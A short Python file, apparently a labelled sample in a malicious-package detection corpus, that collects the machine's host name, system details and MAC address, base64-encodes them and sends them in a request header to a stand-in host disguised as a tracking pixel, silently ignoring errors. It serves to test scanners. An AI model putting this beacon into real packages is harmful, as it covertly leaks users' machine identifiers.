# pkgguard corpus 429 (system-information), modelled on [checkmarx-2024]; inert, never run.
import base64
import json
import platform
import urllib.request
import uuid

facts = {"node": platform.node(), "uname": platform.uname()._asdict(), "mac": uuid.getnode()}
token = base64.urlsafe_b64encode(json.dumps(facts).encode()).decode()
request = urllib.request.Request("https://cdn.example/pixel.gif", headers={"X-Client-Id": token})
try:
    urllib.request.urlopen(request, timeout=4)
except OSError:
    pass
